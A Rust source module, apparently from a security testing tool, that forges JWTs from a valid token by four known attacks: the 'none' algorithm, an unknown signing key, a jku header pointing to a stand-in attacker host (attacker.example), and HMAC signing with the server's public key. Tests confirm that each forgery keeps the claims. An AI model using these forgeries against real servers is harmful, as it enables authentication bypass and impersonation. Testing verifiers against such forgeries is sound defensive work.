//! Tokens that no key of the server signed, with the claims of one that a key did.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use secrecy::{ExposeSecret, SecretString};
use serde_json::{Map, Value, json};

use super::shots::Forgery;
use crate::exchange::keys::{SigningAlgorithm, SigningKey};
use crate::exchange::mac::{self, MacAlgorithm};
use crate::exchange::token::{self, Jwt};
use crate::exchange::verify::Jwks;

/// Where a forged token says that its key is: a name that is reserved for nobody (RFC 2606 §2).
const ELSEWHERE: &str = "https://attacker.example/jwks";

/// A forged copy of a token.
///
/// # Errors
///
/// A sentence, when the token cannot be read, or the server's keys cannot be used for it.
pub(super) fn forge(
    good: &SecretString,
    how: Forgery,
    keys: Option<&Jwks>,
) -> Result<SecretString, String> {
    let decoded = token::decode(good.expose_secret());
    let jwt = decoded.jwt().ok_or("The token is no JWT, so there is nothing to forge.")?;
    let key = || SigningKey::generate(SigningAlgorithm::Es256).map_err(|error| error.to_string());
    let typ = jwt.header.get("typ").and_then(Value::as_str).unwrap_or("JWT");
    let forged = match how {
        Forgery::Unsigned => unsigned(jwt),
        Forgery::UnknownKey => key()?.sign(typ, &jwt.claims).map_err(|error| error.to_string())?,
        Forgery::KeyElsewhere => {
            let kid = jwt.header.get("kid").and_then(Value::as_str);
            key()?
                .sign_pointing(typ, &jwt.claims, kid, ELSEWHERE)
                .map_err(|error| error.to_string())?
        }
        Forgery::MacWithPublicKey => {
            let kid = jwt.header.get("kid").and_then(Value::as_str);
            let key = keys.and_then(|keys| keys.named(kid)).and_then(pem).ok_or(
                "The server's public key is not known, so it cannot be taken for a secret.",
            )?;
            mac::sign(&SecretString::from(key), MacAlgorithm::Hs256, typ, &jwt.claims)
                .map_err(|error| error.to_string())?
        }
    };
    Ok(SecretString::from(forged))
}

fn unsigned(jwt: &Jwt) -> String {
    let mut header: Map<String, Value> = jwt.header.clone();
    header.insert("alg".to_owned(), json!("none"));
    let part = |members: &Map<String, Value>| {
        URL_SAFE_NO_PAD.encode(Value::Object(members.clone()).to_string())
    };
    format!("{}.{}.", part(&header), part(&jwt.claims))
}

/// A public key as PEM (RFC 7468 §13): the text that a careless library takes for a secret.
fn pem(jwk: &Value) -> Option<String> {
    let bytes = |name: &str| URL_SAFE_NO_PAD.decode(jwk.get(name)?.as_str()?).ok();
    let info = match jwk.get("kty")?.as_str()? {
        "RSA" => {
            let key = der(0x30, &[integer(&bytes("n")?), integer(&bytes("e")?)].concat());
            // rsaEncryption (RFC 3279 §2.3.1).
            let algorithm = der(
                0x30,
                &[&[0x06, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 1, 1][..], &[0x05, 0]].concat(),
            );
            der(0x30, &[algorithm, bits(&key)].concat())
        }
        "EC" if jwk.get("crv")?.as_str()? == "P-256" => {
            // id-ecPublicKey with prime256v1 (RFC 5480 §2.1.1).
            let algorithm = der(
                0x30,
                &[
                    &[0x06, 7, 0x2a, 0x86, 0x48, 0xce, 0x3d, 2, 1][..],
                    &[0x06, 8, 0x2a, 0x86, 0x48, 0xce, 0x3d, 3, 1, 7],
                ]
                .concat(),
            );
            let point = [vec![4], bytes("x")?, bytes("y")?].concat();
            der(0x30, &[algorithm, bits(&point)].concat())
        }
        _ => return None,
    };
    let text = STANDARD.encode(info);
    let mut pem = String::from("-----BEGIN PUBLIC KEY-----\n");
    for line in text.as_bytes().chunks(64) {
        pem.push_str(&String::from_utf8_lossy(line));
        pem.push('\n');
    }
    pem.push_str("-----END PUBLIC KEY-----\n");
    Some(pem)
}

/// A DER value.
fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = content.len();
    let mut out = vec![tag];
    if let Ok(short @ 0..0x80) = u8::try_from(length) {
        out.push(short);
    } else {
        let bytes: Vec<u8> =
            length.to_be_bytes().into_iter().skip_while(|byte| *byte == 0).collect();
        out.push(0x80 | u8::try_from(bytes.len()).unwrap_or(0));
        out.extend(bytes);
    }
    out.extend_from_slice(content);
    out
}

fn integer(bytes: &[u8]) -> Vec<u8> {
    // A first bit that is set would make it negative.
    let sign: &[u8] = if bytes.first().is_some_and(|first| *first >= 0x80) { &[0] } else { &[] };
    der(0x02, &[sign, bytes].concat())
}

fn bits(bytes: &[u8]) -> Vec<u8> {
    der(0x03, &[&[0], bytes].concat())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::exchange::keys::KeySet;

    #[test]
    fn a_public_key_is_written_as_every_tool_writes_it() {
        for algorithm in [SigningAlgorithm::Rs256, SigningAlgorithm::Es256] {
            let key = SigningKey::generate(algorithm).unwrap();
            let set = KeySet::of([&key]).to_json();
            let text = pem(&set["keys"][0]).unwrap();
            // The reader of key files knows the same key by it.
            let read = KeySet::read_public(&text).unwrap();
            let token = key.sign("JWT", &json!({"sub": "a"})).unwrap();
            assert!(read.verify(&token).is_ok(), "{text}");
        }
    }

    #[test]
    fn every_forgery_keeps_the_claims_and_no_key_of_the_server_signed_it() {
        let key = SigningKey::generate(SigningAlgorithm::Rs256).unwrap();
        let good = SecretString::from(key.sign("at+jwt", &json!({"sub": "a", "n": 1})).unwrap());
        let set = KeySet::of([&key]);
        let jwks = Jwks::parse(set.to_json().to_string().as_bytes()).unwrap();
        for (how, alg) in [
            (Forgery::Unsigned, "none"),
            (Forgery::MacWithPublicKey, "HS256"),
            (Forgery::UnknownKey, "ES256"),
            (Forgery::KeyElsewhere, "ES256"),
        ] {
            let forged = forge(&good, how, Some(&jwks)).unwrap();
            let token = token::decode(forged.expose_secret());
            let jwt = token.jwt().unwrap();
            assert_eq!(jwt.header["alg"], alg);
            assert_eq!(jwt.header["typ"], "at+jwt");
            assert_eq!(Value::Object(jwt.claims.clone()), json!({"sub": "a", "n": 1}));
            assert!(set.verify(forged.expose_secret()).is_err());
            if how == Forgery::KeyElsewhere {
                assert_eq!(jwt.header["jku"], ELSEWHERE);
                assert_eq!(jwt.header["kid"], key.kid());
            }
        }
        assert!(forge(&"opaque".into(), Forgery::Unsigned, None).is_err());
        assert!(forge(&good, Forgery::MacWithPublicKey, None).is_err());
    }
}
